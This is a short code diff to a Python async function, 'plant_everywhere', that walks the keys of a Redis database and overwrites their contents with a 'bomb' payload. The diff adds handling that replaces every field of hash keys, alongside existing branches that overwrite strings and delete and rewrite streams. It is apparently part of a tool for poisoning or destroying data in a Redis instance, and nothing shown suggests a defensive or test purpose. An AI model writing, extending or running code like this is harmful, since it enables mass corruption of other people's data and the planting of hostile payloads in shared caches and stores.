@@ -103,6 +103,8 @@ async def plant_everywhere(url: str, bomb: bytes) -> int:
             kind = await redis.type(key)
             if kind == b"string":
                 await redis.set(key, bomb, keepttl=True)
+            elif kind == b"hash":
+                await redis.hset(key, mapping=dict.fromkeys(await redis.hkeys(key), bomb))
             elif kind == b"stream":
                 [(newest, fields)] = await redis.xrevrange(key, count=1)
                 await redis.delete(key)
